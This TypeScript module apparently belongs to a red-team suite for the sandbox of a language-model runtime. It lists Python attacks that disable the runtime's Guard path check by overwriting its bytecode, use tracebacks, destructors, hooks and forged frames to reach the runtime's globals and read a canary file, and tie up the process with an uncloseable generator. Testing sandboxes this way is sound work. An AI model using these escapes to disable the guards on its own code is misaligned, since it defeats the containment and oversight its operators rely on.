import type { Family } from './attack.js';

const READ = `
def read(names):
    held = names["__builtins__"]
    table = held if type(held) is dict else vars(held)
    modules = table["__import__"]("sys").modules
    if "rlm_runtime.guard" in modules:
        modules["rlm_runtime.guard"].Guard._check_path.__code__ = (lambda self, path, writes: None).__code__
    print(table["open"](CANARY["file"]).read())
`;

/** Uses the frames that an exception or a generator carries out of the runtime. */
export const generatorsAndTracebacks: Family = {
  name: 'generators and tracebacks',
  attacks: [
    {
      name: 'has a function of the runtime fail and walks down its traceback',
      kind: 'boundary',
      aims: ['shared-file'],
      code: `${READ}
try: llm_query(CANARY)
except Exception as error:
    step = error.__traceback__
    while step.tb_next: step = step.tb_next
    read(step.tb_frame.f_globals)
`,
    },
    {
      name: 'has an exception thrown into its generator from a context manager',
      kind: 'boundary',
      aims: ['shared-file'],
      code: `${READ}
import contextlib
@contextlib.contextmanager
def watched():
    try: yield
    except BaseException as error:
        read(error.__traceback__.tb_next.tb_frame.f_globals)
with watched():
    llm_query_batched(None)
`,
    },
    {
      name: 'reads the frames of an error from the destructor of a local',
      kind: 'boundary',
      aims: ['shared-file'],
      code: `${READ}
import warnings
class Last:
    def __del__(self):
        frame = warnings.sys._getframe()
        while frame.f_back is not None: frame = frame.f_back
        read(frame.f_globals)
def scope():
    last = Last()
    raise ValueError
try: scope()
except ValueError: pass
`,
    },
    {
      name: 'replaces what Python does with errors that nobody can catch',
      kind: 'boundary',
      aims: ['shared-file'],
      code: `${READ}
import warnings
sys = warnings.sys
def hook(unraisable):
    read(unraisable.exc_traceback.tb_frame.f_back.f_globals)
sys.unraisablehook = hook
class Failing:
    def __del__(self): raise ValueError
failing = Failing()
del failing
`,
    },
    {
      name: 'collects the frames of errors that were the context of others',
      kind: 'boundary',
      aims: ['shared-file'],
      code: `${READ}
try:
    try: llm_query(0)
    finally: {}["missing"]
except KeyError as error:
    step = error.__context__.__traceback__
    while step.tb_next: step = step.tb_next
    read(step.tb_frame.f_globals)
`,
    },
    {
      name: 'forges a traceback on a frame of the runtime',
      kind: 'boundary',
      aims: ['shared-file'],
      code: `${READ}
import types, warnings
frame = warnings.sys._getframe(1)
forged = types.TracebackType(None, frame, frame.f_lasti, 1)
try: raise ValueError().with_traceback(forged)
except ValueError as error:
    read(error.__traceback__.tb_next.tb_frame.f_globals)
`,
    },
    {
      name: 'closes a generator that will not be closed',
      kind: 'resource',
      aims: ['next-block'],
      code: `
def stubborn():
    while True:
        try: yield
        except BaseException: pass
one = stubborn()
next(one)
while True:
    try:
        while True: one.throw(KeyboardInterrupt)
    except BaseException: pass
`,
    },
  ],
};
